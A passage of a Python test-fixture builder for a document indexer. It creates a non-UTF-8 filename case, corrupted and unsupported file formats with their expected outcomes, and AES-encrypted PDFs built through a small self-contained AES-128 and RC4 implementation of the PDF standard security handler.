    # A file name that is not UTF-8 (a zip made on an old Windows): the document itself is fine.
    odd = os.fsencode(links) + b"/r\xe9sum\xe9-r\xe9union.txt"
    with open(odd, "wb") as handle:
        handle.write(("Compte rendu de la réunion du conseil citoyen de Grande-Synthe, "
                      "repère lima-Synthe : les habitants demandent un nouvel éclairage.")
                     .encode())
    w.cases.append(Case(os.fsdecode(odd)[len(str(folder)) + 1:], "nom non UTF-8",
                        frozenset({INDEXED, SKIPPED}), r"nom|fichier"))


def _unsupported(w: _Writer) -> None:
    # Office files that are not what they claim (a bare zip header, random bytes): refused
    for name in ("document.docx", "notes.odt", "diaporama.pptx"):
        w.add(f"formats/casses/{name}", b"PK\x03\x04" + os.urandom(200), "Office corrompu",
              {SKIPPED}, r"illisible|corromp")
    for name, data in {"tableur.xlsx": b"PK\x03\x04",
                       "programme.exe": b"MZ\x90\x00", "sans-extension": b"texte",
                       "archive.tar.gz": b"\x1f\x8b\x08\x00", ".cache.txt": b"cache",
                       "image.PNG": b"\x89PNG"}.items():
        expect = {ABSENT} if name.startswith(".") else {IGNORED}
        w.add(f"formats/{name}", data, "format non pris en charge", expect, r"format")


# -- AES-128 (PDF standard security handler, revision 4), for the encrypted fixtures ----------
# pypdf can only read AES with `cryptography` installed and cannot write it without; this small
# encryptor (checked against FIPS-197's test vector) builds such files anyway.

def _sbox() -> list[int]:
    box, p, q = [0] * 256, 1, 1
    while True:
        p = (p ^ (p << 1) ^ (0x1B if p & 0x80 else 0)) & 0xFF
        q ^= q << 1
        q ^= q << 2
        q ^= q << 4
        q &= 0xFF
        if q & 0x80:
            q ^= 0x09
        rot = lambda x, s: ((x << s) | (x >> (8 - s))) & 0xFF  # noqa: E731
        box[p] = q ^ rot(q, 1) ^ rot(q, 2) ^ rot(q, 3) ^ rot(q, 4) ^ 0x63
        if p == 1:
            break
    box[0] = 0x63
    return box


SBOX = _sbox()


def _xtime(a: int) -> int:
    return ((a << 1) ^ 0x1B) & 0xFF if a & 0x80 else a << 1


def _expand(key: bytes) -> list[list[int]]:
    words = [list(key[i:i + 4]) for i in range(0, 16, 4)]
    rcon = 1
    for i in range(4, 44):
        temp = list(words[i - 1])
        if i % 4 == 0:
            temp = [SBOX[b] for b in temp[1:] + temp[:1]]
            temp[0] ^= rcon
            rcon = _xtime(rcon)
        words.append([a ^ b for a, b in zip(words[i - 4], temp, strict=True)])
    return [sum(words[r * 4:r * 4 + 4], []) for r in range(11)]


def aes128_block(key: bytes, block: bytes, rounds: list[list[int]] | None = None) -> bytes:
    rounds = rounds or _expand(key)
    s = [b ^ k for b, k in zip(block, rounds[0], strict=True)]
    for r in range(1, 11):
        s = [SBOX[b] for b in s]
        s = [s[(i + 4 * (i % 4)) % 16] for i in range(16)]  # ShiftRows (column-major state)
        if r < 10:
            mixed = []
            for c in range(4):
                a = s[4 * c:4 * c + 4]
                t = a[0] ^ a[1] ^ a[2] ^ a[3]
                mixed += [a[i] ^ t ^ _xtime(a[i] ^ a[(i + 1) % 4]) for i in range(4)]
            s = mixed
        s = [b ^ k for b, k in zip(s, rounds[r], strict=True)]
    return bytes(s)


def aes128_cbc(key: bytes, iv: bytes, data: bytes) -> bytes:
    rounds = _expand(key)
    pad = 16 - len(data) % 16
    data += bytes([pad]) * pad
    out, previous = bytearray(iv), iv
    for i in range(0, len(data), 16):
        previous = aes128_block(key, bytes(a ^ b for a, b in zip(data[i:i + 16], previous,
                                                                  strict=True)), rounds)
        out += previous
    return bytes(out)


assert aes128_block(bytes(range(16)), bytes.fromhex("00112233445566778899aabbccddeeff")) == \
    bytes.fromhex("69c4e0d86a7b0430d8cdb78070b4c55a")  # FIPS-197, appendix C.1

_PAD = bytes.fromhex("28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a")


def _rc4(key: bytes, data: bytes) -> bytes:
    s, j = list(range(256)), 0
    for i in range(256):
        j = (j + s[i] + key[i % len(key)]) & 0xFF
        s[i], s[j] = s[j], s[i]
    out, i, j = bytearray(), 0, 0
    for byte in data:
        i = (i + 1) & 0xFF
        j = (j + s[i]) & 0xFF
        s[i], s[j] = s[j], s[i]
        out.append(byte ^ s[(s[i] + s[j]) & 0xFF])
    return bytes(out)


def aes_pdf(content: bytes, user: bytes, owner: bytes) -> bytes:
    """A one-page PDF encrypted with AESV2 (V4/R4, 128-bit key), as Acrobat writes them."""
    file_id = hashlib.md5(content).digest()
    permissions = -3904  # print, copy… allowed
    owner_key = hashlib.md5((owner + _PAD)[:32]).digest()
    for _ in range(50):
        owner_key = hashlib.md5(owner_key).digest()
    o_value = (user + _PAD)[:32]
    for i in range(20):
        o_value = _rc4(bytes(b ^ i for b in owner_key), o_value)
    digest = hashlib.md5((user + _PAD)[:32] + o_value + permissions.to_bytes(4, "little",
                                                                             signed=True)
                         + file_id).digest()
    for _ in range(50):
        digest = hashlib.md5(digest).digest()
    key = digest[:16]
    u_value = hashlib.md5(_PAD + file_id).digest()
    for i in range(20):
        u_value = _rc4(bytes(b ^ i for b in key), u_value)
    u_value += bytes(16)

    def encrypt(number: int, data: bytes) -> bytes:
        object_key = hashlib.md5(key + number.to_bytes(3, "little") + bytes(2) + b"sAlT").digest()
        return aes128_cbc(object_key, hashlib.md5(data + bytes([number])).digest(), data)

    body = encrypt(4, content)
    return build_pdf({
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
           b"/Resources << /Font << /F1 5 0 R >> >> >>",
        4: stream(body),
        5: FONT,
        6: b"<< /Filter /Standard /V 4 /R 4 /Length 128 /P %d /O <%s> /U <%s> "
           b"/CF << /StdCF << /CFM /AESV2 /AuthEvent /DocOpen /Length 16 >> >> "
           b"/StmF /StdCF /StrF /StdCF >>" % (permissions, o_value.hex().encode(),
                                              u_value.hex().encode()),
    }, trailer=b"/Encrypt 6 0 R /ID [<%s> <%s>] " % (file_id.hex().encode(),
                                                     file_id.hex().encode()))
